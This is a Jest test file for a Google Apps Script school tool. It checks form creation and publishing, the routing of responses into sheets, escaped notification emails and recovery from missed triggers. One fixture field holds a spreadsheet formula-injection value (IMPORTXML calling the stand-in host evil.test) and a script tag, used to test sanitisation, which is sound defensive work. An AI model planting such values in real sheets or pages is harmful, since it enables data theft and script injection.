/**
 * The forms capability through the BUILT bundle in the offline fakes: setup creates the four
 * forms once and names their response sheets; a request answered in Google Forms reaches
 * «Заявки» through the form-submit trigger, and the hourly run sends the acknowledgement.
 * (`npm test` builds first; alone: `npm run build && npx jest test/bundle/forms.test.ts`.)
 */
import { intlZone } from '../../src/adapters/memory/zone';
import { instantOf } from '../../src/domain/calendar';
import { ru } from '../../src/i18n/ru';
import type { CellValue, GasEnvironment } from '../fakes';
import {
  ADMIN,
  loadBundle,
  onServiceCall,
  setSetting,
  teachersFile,
  writeSheets,
} from '../support/gas';

const zone = intlZone('Europe/Moscow');
const NOW = instantOf(zone, '2026-11-27', 15 * 60);
const Q = ru.forms.questions;
const RESPONSE_SHEETS = ['Опрос родителей', 'Опрос учащихся', 'Заявки (ответы)', 'Доступ (ответы)'];

/** A small school, set up by its administrator, mail live. */
function school(): GasEnvironment {
  const env = loadBundle({ now: NOW });
  writeSheets(env, {
    Настройки: [
      ['Ключ', 'Значение', 'Описание'],
      ['admin_emails', ADMIN, ''],
      ['school_email', 'school@school.test', ''],
      ['mail_mode', 'live', ''],
      ['quota_reserve', 0, ''],
    ],
    Классы: [
      ['Класс', 'Классный руководитель (email)', 'Email рассылки класса'],
      ['5А', 'ivanova@school.test', ''],
    ],
    Педагоги: [
      ['ФИО', 'Email', 'Роль'],
      ['Иванова Анна Петровна', 'ivanova@school.test', 'учитель'],
    ],
    Ученики: [
      ['ID', 'ФИО', 'Класс', 'Родитель 1', 'Email родителя 1'],
      ['P1', 'Алексеев Борис Ильич', '5А', 'Алексеева Вера', 'vera@home.test'],
    ],
  });
  env.call('setupWorkbook');
  return env;
}

/** The form whose response sheet is `sheet`. */
function formOf(env: GasEnvironment, sheet: string): string {
  const form = env.forms.list().find((f) => f.destinationSheet === sheet);
  if (!form) throw new Error(`no form answers into «${sheet}»`);
  return String(form.id);
}

/** A sheet's rows as objects keyed by its header. */
/** «Заявки» and «Доступ» are answered by teachers: they live in the teachers' workbook. */
const fileOf = (env: GasEnvironment, sheet: string) =>
  ['Заявки', 'Доступ'].includes(sheet) ? teachersFile(env) : env.spreadsheet;

function rowsOf(env: GasEnvironment, sheet: string): Array<Record<string, CellValue>> {
  const [header = [], ...rows] = fileOf(env, sheet).sheetValues(sheet);
  return rows.map((row) => Object.fromEntries(header.map((h, i) => [String(h), row[i] ?? ''])));
}

const REQUEST = {
  [Q.type]: 'печатные материалы',
  [Q.pupilId]: 'P1',
  [Q.applicant]: 'Алексеева Вера',
  [Q.phone]: '+7 912 000-00-00',
  [Q.subject]: 'Математика',
  [Q.description]: '=IMPORTXML("http://evil.test","//a") <script>x</script>',
};

describe('setupWorkbook makes the forms', () => {
  const env = school();

  it('creates the four forms, linked to the spreadsheet, and names their response sheets', () => {
    const forms = env.forms.list();
    expect(forms.map((f) => f.title)).toEqual([
      ru.forms.forms.parentSurvey.title,
      ru.forms.forms.pupilSurvey.title,
      ru.forms.forms.request.title,
      ru.forms.forms.access.title,
    ]);
    expect(forms.map((f) => f.destinationId)).toEqual(Array(4).fill(env.spreadsheet.getId()));
    expect(forms.map((f) => f.destinationSheet)).toEqual(RESPONSE_SHEETS);
    expect(env.spreadsheet.sheetNames()).toEqual(expect.arrayContaining(RESPONSE_SHEETS));
    const request = env.forms.get(formOf(env, 'Заявки (ответы)'));
    expect(request.collectsEmail()).toBe(true);
    expect(env.spreadsheet.sheetValues('Заявки (ответы)')[0]).toEqual([
      'Timestamp',
      'Email Address',
      ...[Q.type, Q.pupilId, Q.class, Q.applicant, Q.phone, Q.subject, Q.description],
    ]);
  });

  it('publishes the four forms: each accepts answers, as Google has required since 30 June 2026', () => {
    for (const form of env.forms.list()) {
      expect([form.title, form.published, form.accepting]).toEqual([form.title, true, true]);
      const raw = env.forms.get(String(form.id));
      expect([raw.isPublished(), raw.isAcceptingResponses()]).toEqual([true, true]);
    }
  });

  it('tells the links in the dialog', () => {
    const prompt = String(env.ui.alerts.at(-1)?.prompt ?? '');
    expect(prompt).toContain(ru.forms.formsCreated(4));
    for (const form of env.forms.list())
      expect(prompt).toContain(env.forms.get(String(form.id)).getPublishedUrl());
  });

  it('a second setup creates no form and no sheet', () => {
    const sheets = env.spreadsheet.sheetNames();
    env.call('setupWorkbook');
    expect(env.forms.list()).toHaveLength(4);
    expect(env.spreadsheet.sheetNames()).toEqual(sheets);
    expect(String(env.ui.alerts.at(-1)?.prompt)).not.toContain(ru.forms.formLinksHeading);
  });
});

describe('setupWorkbook and a form nobody can answer', () => {
  it('an unpublished form refuses answers; setup publishes it again and says so', () => {
    const env = school();
    const survey = env.forms.get(formOf(env, 'Опрос родителей'));
    survey.setPublished(false);
    expect(() => env.forms.submit(survey.getId(), { [Q.pupilId]: 'P1' })).toThrow(
      'is not published',
    );
    env.call('setupWorkbook');
    expect(survey.isPublished()).toBe(true);
    expect(String(env.ui.alerts.at(-1)?.prompt)).toContain(
      ru.forms.formPublished(ru.forms.forms.parentSurvey.title),
    );
  });

  it('a form the school closed stays closed; setup says how to open it', () => {
    const env = school();
    const census = env.forms.get(formOf(env, 'Доступ (ответы)'));
    census.setAcceptingResponses(false);
    env.call('setupWorkbook');
    expect([census.isPublished(), census.isAcceptingResponses()]).toEqual([true, false]);
    expect(String(env.ui.alerts.at(-1)?.prompt)).toContain(
      ru.forms.formNotAccepting(ru.forms.forms.access.title, census.getEditUrl()),
    );
  });
});

describe('a request through Google Forms', () => {
  const env = school();
  env.mail.sent.length = 0;
  const event = env.forms.submit(formOf(env, 'Заявки (ответы)'), REQUEST, {
    email: 'vera@home.test',
  });

  it('reaches «Заявки» through the form-submit trigger, once however often it fires', () => {
    expect(event).not.toBeNull();
    expect(env.triggers.fireFormSubmit(event!)).toBe(1);
    env.triggers.fireFormSubmit(event!);
    const rows = rowsOf(env, 'Заявки');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      ID: 'R-2',
      Тип: 'печатные материалы',
      'ID ученика': 'P1',
      Класс: '5А',
      Статус: 'новая',
      Описание: REQUEST[Q.description],
    });
    expect(rows[0]?.['Срок']).toEqual(instantOf(zone, '2026-12-02'));
    expect(env.mail.sent).toEqual([]);
  });

  it('the hourly run sends the acknowledgement and the staff alert, escaped', () => {
    env.clock.advance(20 * 60_000);
    env.triggers.fireTimeTriggers();
    const sent = env.mail.sent.filter((m) => /R-2/.test(m.subject));
    expect(sent.map((m) => [m.subject, m.to])).toEqual([
      ['Заявка R-2 принята: печатные материалы', 'vera@home.test'],
      ['Новая заявка R-2: печатные материалы, 5А', ADMIN],
    ]);
    expect(sent[1]?.cc).toBe('ivanova@school.test');
    for (const mail of sent) {
      expect(mail.htmlBody).not.toContain('<script>');
      expect(mail.htmlBody).toContain('&lt;script&gt;');
    }
  });

  it('leaves no formula anywhere in the spreadsheet', () => {
    for (const name of env.spreadsheet.sheetNames())
      expect([name, env.spreadsheet.formulasIn(name)]).toEqual([name, []]);
  });

  it('an empty event changes nothing', () => {
    const before = rowsOf(env, 'Заявки');
    env.triggers.fireFormSubmit({ ...event!, namedValues: {}, values: [] });
    env.triggers.fireFormSubmit({ authMode: 'FULL' });
    expect(rowsOf(env, 'Заявки')).toEqual(before);
  });
});

describe('surveys and the census through Google Forms', () => {
  const env = school();
  setSetting(env, 'low_score_threshold', 2);

  it('a low survey score reaches the administrators; the census lands on «Доступ»', () => {
    const survey = env.forms.submit(
      formOf(env, 'Опрос родителей'),
      {
        [Q.pupilId]: 'P1',
        [Q.organisation]: 1,
        [Q.clarity]: 4,
        [Q.feedback]: 5,
        [Q.workload]: 3,
      },
      { email: 'vera@home.test' },
    );
    env.triggers.fireFormSubmit(survey!);
    const census = env.forms.submit(formOf(env, 'Доступ (ответы)'), {
      [Q.pupilId]: 'P1',
      [Q.computer]: 'да',
      [Q.internet]: 'нет',
      [Q.paper]: 'да',
    });
    env.triggers.fireFormSubmit(census!);
    env.triggers.fireFormSubmit(census!);
    expect(rowsOf(env, 'Доступ')).toEqual([
      expect.objectContaining({ 'ID ученика': 'P1', Компьютер: 'да', Интернет: 'нет' }),
    ]);
    env.clock.advance(20 * 60_000);
    env.triggers.fireTimeTriggers();
    const alerts = env.mail.sent.filter((m) => m.subject.startsWith('Низкая оценка'));
    expect(alerts.map((m) => [m.subject, m.to])).toEqual([
      [ru.forms.lowScoreSubject('Опрос родителей', 1), ADMIN],
    ]);
  });
});

describe('the request link in the weekly letter, through the bundle', () => {
  it("setup asks Google once for a pre-filled link; the letter carries the child's ID and class without a Forms call", () => {
    const env = school();
    const calls: string[] = [];
    const stop = onServiceCall(env, (method) => calls.push(method));
    env.clock.set(instantOf(zone, '2026-11-28', 9 * 60 + 20));
    env.call('sendWeeklySummaries');
    stop();
    expect(calls.filter((c) => c.startsWith('Form'))).toEqual([]);
    const letter = env.mail.sent.find((m) => m.to.includes('vera@home.test'))!;
    const form = formOf(env, 'Заявки (ответы)');
    const link = new RegExp(
      `href="https://docs\\.google\\.com/forms/d/e/${form}/viewform\\?usp=pp_url&amp;entry\\.\\d+=P1&amp;entry\\.\\d+=5%D0%90"`,
    );
    expect(letter.htmlBody).toMatch(link);
  });
});

describe('responses a trigger missed, and edited responses', () => {
  const column = (env: GasEnvironment, sheet: string, title: string): number =>
    fileOf(env, sheet).sheetValues(sheet)[0]!.indexOf(title) + 1;

  it('a request whose trigger failed (the lock stayed busy) is routed by the next hourly run', () => {
    const env = school();
    env.triggers.fireTimeTriggers(); // today's jobs are done: the night's sweep is not due again
    const event = env.forms.submit(formOf(env, 'Заявки (ответы)'), REQUEST, {
      email: 'vera@home.test',
    });
    env.locks.holdByAnotherExecution('document');
    expect(() => env.triggers.fireFormSubmit(event!)).toThrow(ru.delivery.busy);
    env.locks.release('document');
    expect(rowsOf(env, 'Заявки')).toEqual([]);

    env.clock.advance(40 * 60_000);
    env.triggers.fireTimeTriggers();
    expect(rowsOf(env, 'Заявки').map((r) => r['ID'])).toEqual(['R-2']);
    expect(env.mail.sent.map((m) => m.subject)).toContain('Заявка R-2 принята: печатные материалы');
    // Routed once: the next runs find its marker and do nothing more.
    env.clock.advance(60 * 60_000);
    env.triggers.fireTimeTriggers();
    expect(rowsOf(env, 'Заявки')).toHaveLength(1);
    expect(rowsOf(env, 'Обработанные ответы')).toHaveLength(1);
  });

  it('a response whose trigger never fired is routed by the night’s sweep', () => {
    const env = school();
    env.forms.submit(formOf(env, 'Доступ (ответы)'), {
      [Q.pupilId]: 'P1',
      [Q.computer]: 'нет',
      [Q.internet]: 'нестабильный',
      [Q.paper]: 'да',
    });
    // No trigger ran (it was disabled, or the day's trigger time was spent).
    env.clock.set(instantOf(zone, '2026-11-28', 4 * 60 + 10));
    env.triggers.fireTimeTriggers();
    expect(rowsOf(env, 'Доступ')).toEqual([
      expect.objectContaining({ 'ID ученика': 'P1', Компьютер: 'нет', Интернет: 'нестабильный' }),
    ]);
  });

  it('an answer corrected on the response sheet updates its request; the staff’s columns stay', () => {
    const env = school();
    env.triggers.fireTimeTriggers(); // today's jobs are done: the night's sweep is not due again
    const event = env.forms.submit(
      formOf(env, 'Заявки (ответы)'),
      { ...REQUEST, [Q.description]: 'Нужны задания по алгебре' },
      { email: 'vera@home.test' },
    );
    env.triggers.fireFormSubmit(event!);
    const requests = teachersFile(env).sheet('Заявки');
    requests.getRange(2, column(env, 'Заявки', 'Статус')).setValue('в работе');
    const answers = env.spreadsheet.sheet('Заявки (ответы)');
    env.triggers.fireEdit(
      answers.getRange(2, column(env, 'Заявки (ответы)', Q.description)),
      'Нужны задания по алгебре',
      'Нужны задания по алгебре и геометрии',
    );
    env.clock.advance(40 * 60_000);
    env.triggers.fireTimeTriggers();
    expect(rowsOf(env, 'Заявки')).toEqual([
      expect.objectContaining({
        ID: 'R-2',
        Описание: 'Нужны задания по алгебре и геометрии',
        Статус: 'в работе',
      }),
    ]);
  });

  it('an edited census answer updates its row of «Доступ» instead of adding one', () => {
    const env = school();
    const event = env.forms.submit(formOf(env, 'Доступ (ответы)'), {
      [Q.pupilId]: 'P1',
      [Q.computer]: 'нет',
      [Q.internet]: 'нет',
      [Q.paper]: 'да',
    });
    env.triggers.fireFormSubmit(event!);
    // The family edits its response: Google rewrites the row, timestamp included, and the
    // form-submit trigger fires again for that row.
    env.clock.advance(3 * 60 * 60_000);
    const sheet = env.spreadsheet.sheet('Доступ (ответы)');
    sheet.getRange(2, 1).setValue(env.clock.now());
    sheet.getRange(2, column(env, 'Доступ (ответы)', Q.internet)).setValue('да');
    env.triggers.fireFormSubmit({ ...event!, namedValues: {} });
    expect(rowsOf(env, 'Доступ')).toEqual([
      expect.objectContaining({ 'ID ученика': 'P1', Интернет: 'да', Дата: env.clock.now() }),
    ]);
  });
});
